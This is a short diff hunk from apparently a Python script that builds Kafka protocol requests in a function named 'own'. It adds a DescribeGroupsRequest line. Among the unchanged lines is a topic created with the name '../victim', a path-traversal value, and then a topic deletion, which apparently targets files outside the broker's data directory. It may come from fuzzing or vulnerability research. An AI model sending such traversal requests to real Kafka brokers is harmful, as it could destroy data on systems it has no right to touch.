@@ -113,6 +113,7 @@ def own(closed_port: int) -> list[bytes]:
     settings = [a.TopicConfigEntry("segment.bytes", "1000")]
     requests += [
         a.CreateTopicsRequest([new], 0, True),
+        a.DescribeGroupsRequest(["fuzz"]),
         a.CreateTopicsRequest([placed], 0, True),
         a.CreateTopicsRequestV0([a.NewTopic("../victim", 2, 1, [], [])], 0),
         a.DeleteTopicsRequest(["victim"], 0),
